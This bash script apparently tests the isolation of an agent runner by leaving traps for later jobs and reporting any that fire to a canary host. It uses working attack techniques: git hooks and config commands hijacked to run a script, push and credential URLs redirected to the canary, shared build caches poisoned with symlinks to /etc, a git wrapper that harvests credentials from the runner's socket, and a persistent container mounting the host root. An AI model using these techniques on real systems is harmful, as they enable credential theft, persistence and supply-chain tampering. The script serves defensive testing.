# shellcheck shell=bash
# Traps for whoever works with the tree, or with the cache, after this worker. What goes
# off is seen outside: by the file $traps, and by who asks the canary.
# shellcheck disable=SC2016,SC2154

leave_traps() {
    local trap=$PWD/.git/trap
    printf '#!/bin/sh\necho "$(id -u) $0 $*" >>%s\nexit 1\n' "$traps" >"$trap" && chmod 755 "$trap"
    trap_hooks "$trap"
    trap_configuration "$trap"
    trap_head
    trap_files
    trap_cache
    if [ -n "$image" ]; then leave_a_container; fi
    case $mode in dind | dind-caps) as_root replace_git "$traps" "${forge#http://}" ;; esac
    leave_a_process
    rm -f "$traps" "$traps.token"
}

trap_hooks() {
    local hook
    for hook in pre-commit post-commit pre-push post-checkout post-index-change reference-transaction \
        post-rewrite pre-receive fsmonitor-watchman; do
        cp "$1" ".git/hooks/$hook"
    done
}

trap_configuration() {
    local name elsewhere=http://$host:$canary/redirected
    for name in core.fsmonitor core.sshCommand core.gitProxy core.pager core.editor core.askPass \
        core.alternateRefsCommand gpg.program remote.origin.uploadpack remote.origin.receivepack \
        uploadpack.packObjectsHook filter.trap.clean filter.trap.smudge filter.trap.process \
        diff.trap.command diff.trap.textconv diff.external merge.trap.driver sequence.editor; do
        git config "$name" "$1"
    done
    git config core.hooksPath "$PWD/.git/hooks"
    git config credential.helper "!$1"
    git config "credential.$forge.helper" "!$1"
    git config submodule.trap.update "!$1"
    git config commit.gpgSign true
    git config push.gpgSign true
    git config "url.$elsewhere/.insteadOf" "$forge/"
    git config "url.$elsewhere/.pushInsteadOf" "$forge/"
    git config remote.origin.pushurl "$elsewhere/pushurl"
    git config http.proxy "$elsewhere"
    git config http.sslVerify false
    printf '* filter=trap diff=trap merge=trap\n' | tee .gitattributes >.git/info/attributes
    printf '[submodule "trap"]\n\tpath = trap\n\turl = %s\n\tupdate = !%s\n' "$elsewhere" "$1" >.gitmodules
}

# A git that misses a commit asks the remote that promised it.
trap_head() {
    git config core.repositoryFormatVersion 1
    git config extensions.partialClone origin
    git config remote.origin.promisor true
    git config remote.origin.url "http://$host:$canary/lazy-fetch"
    rm -rf .git/objects/info/alternates
    mkdir -p .git/objects/info "$PWD/.git/other/objects"
    echo "$PWD/.git/other/objects" >.git/objects/info/alternates
    echo 1111111111111111111111111111111111111111 >.git/HEAD
}

trap_files() {
    ln -s /etc/shadow shadow
    ln -s / root
    mkfifo pipe
    ln /etc/hostname hard-link 2>/dev/null
}

# Its folders are the worker's, and what the next job finds there.
trap_cache() {
    [ -d /cache ] || return
    echo poison >"/cache/npm/poison-$id"
    local folder
    for folder in pip cargo go etc; do
        rm -rf "/cache/$folder" 2>/dev/null
        ln -s /etc "/cache/$folder" 2>/dev/null
    done
    mkdir -p /cache/pip 2>/dev/null
    ln -sfn /etc /cache/pip/http 2>/dev/null
}

# Whoever replaces git is asked in its place, and gets what git would get.
replace_git() { # file for what it gets, host of the forge
    mv /usr/bin/git /usr/bin/git.real
    cat >/usr/bin/git <<END
#!/bin/sh
[ -z "\$AGENT_RUNNER_CREDENTIAL_SOCKET" ] || /usr/local/bin/agent-runner credential >>$1.token 2>&1 <<QUESTION
protocol=http
host=$2

QUESTION
exec /usr/bin/git.real "\$@"
END
    chmod 755 /usr/bin/git
}

leave_a_container() {
    docker run --detach --restart always --name "terarchitect-left-$id" --volume /:/host "terarchitect-probe-$id" \
        /usr/sbin/chroot /host sleep "${id}2" >/dev/null
}

leave_a_process() {
    setsid env -i /bin/bash -c "trap '' TERM HUP INT; cd /; exec sleep ${id}1" >/dev/null 2>&1 </dev/null &
}
